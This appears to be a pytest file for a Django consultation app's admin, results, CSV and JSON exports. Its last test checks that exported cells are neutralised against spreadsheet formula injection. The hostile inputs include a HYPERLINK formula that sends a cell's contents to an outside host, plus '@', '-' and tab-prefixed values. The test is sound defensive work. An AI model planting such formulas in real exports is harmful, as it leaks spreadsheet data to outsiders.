"""Editors: responses in the admin, results, CSV and JSON exports."""

import csv
import io
import json

import pytest
from django.urls import reverse
from django.utils import timezone

from forum.consultations.exports import responses_csv
from forum.consultations.models import Response
from tests.staff import sign_in

from .conftest import Answering


@pytest.fixture
def responses(consultation):
    answering = Answering(consultation)
    question = answering.questions["Które dzielnice?"].id
    options = [answering.option("Które dzielnice?", d) for d in ("Wrzeszcz", "Oliwa")]
    now = timezone.now()
    Response.objects.create(
        page=consultation,
        translation_key=consultation.translation_key,
        language="pl",
        answers={question: options},
        consent_at=now,
        name="Zofia Nowak",
        comments={answering.sections[0]: "Świetnie"},
    )
    Response.objects.create(
        page=consultation,
        translation_key=consultation.translation_key,
        language="uk",
        answers={question: options[:1]},
        consent_at=now,
    )
    return answering


def admin_client(client, user):
    # Staff need a second factor before the admin opens (tested by the foundations).
    return sign_in(client, user)


def test_csv_export_opens_as_utf8_in_a_spreadsheet(consultation, responses):
    text = responses_csv(consultation)
    assert text.startswith("\ufeff")
    lines = text.lstrip("\ufeff").splitlines()
    assert "2. Które dzielnice?" in lines[0] and "§1. Punkty informacyjne" in lines[0]
    assert any("Wrzeszcz; Oliwa" in line and "Zofia Nowak" in line for line in lines[1:])
    assert len(lines) == 3


def test_editors_download_exports_and_see_results(client, editor, consultation, responses):
    client = admin_client(client, editor)
    overview = client.get(reverse("consultation_results:index")).content.decode()
    assert consultation.title in overview
    csv = client.get(reverse("consultation_results:csv", args=[consultation.pk]))
    assert csv.status_code == 200, csv.content[:300]
    assert csv["Content-Type"] == "text/csv; charset=utf-8"
    assert csv.content.startswith("\ufeff".encode())
    data = json.loads(
        client.get(reverse("consultation_results:json", args=[consultation.pk])).content
    )
    assert len(data["responses"]) == 2
    html = client.get(
        reverse("consultation_results:results", args=[consultation.pk])
    ).content.decode()
    assert "Wrzeszcz" in html and "100.0%" in html.replace("100,0", "100.0")
    assert "Świetnie" in html  # editors read the comments


def test_people_without_the_permission_see_no_results(
    client, editor, translator, consultation, responses
):
    url = reverse("consultation_results:csv", args=[consultation.pk])
    assert admin_client(client, translator).get(url).status_code in (302, 403)
    # The same export opens for an editor, so the refusal is the translator's.
    client.logout()
    assert admin_client(client, editor).get(url).status_code == 200


def test_editors_list_filter_and_mark_responses(client, editor, consultation, responses):
    client = admin_client(client, editor)
    listing = client.get(reverse("consultation_responses:index"), {"language": "uk"})
    assert listing.status_code == 200
    stored = Response.objects.get(language="uk", translation_key=consultation.translation_key)
    assert stored.reference in listing.content.decode()
    other = Response.objects.get(language="pl", translation_key=consultation.translation_key)
    assert other.reference not in listing.content.decode()
    edit = reverse("consultation_responses:edit", args=[stored.pk])
    assert client.post(edit, {"status": "published"}).status_code == 302
    stored.refresh_from_db()
    assert stored.status == "published"
    # Responses come only from residents.
    assert client.get(reverse("consultation_responses:add")).status_code in (302, 403)


def test_csv_export_neutralises_spreadsheet_formulas(consultation, responses):
    formula = '=HYPERLINK("http://example.org/?x="&A1,"x")'
    question = responses.questions["Jedno słowo"].id
    Response.objects.create(
        page=consultation,
        translation_key=consultation.translation_key,
        language="pl",
        answers={question: "@SUM(1+1)"},
        comments={responses.sections[0]: "-2+3"},
        consent_at=timezone.now(),
        name=formula,
        organisation="\tTab",
    )
    rows = list(csv.reader(io.StringIO(responses_csv(consultation).lstrip("\ufeff"))))
    row = next(r for r in rows if formula in "".join(r))
    assert "'" + formula in row
    assert "'@SUM(1+1)" in row and "'-2+3" in row and "'\tTab" in row
    assert any("Zofia Nowak" in r for r in rows)  # ordinary text stays as typed
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for r in rows for cell in r)
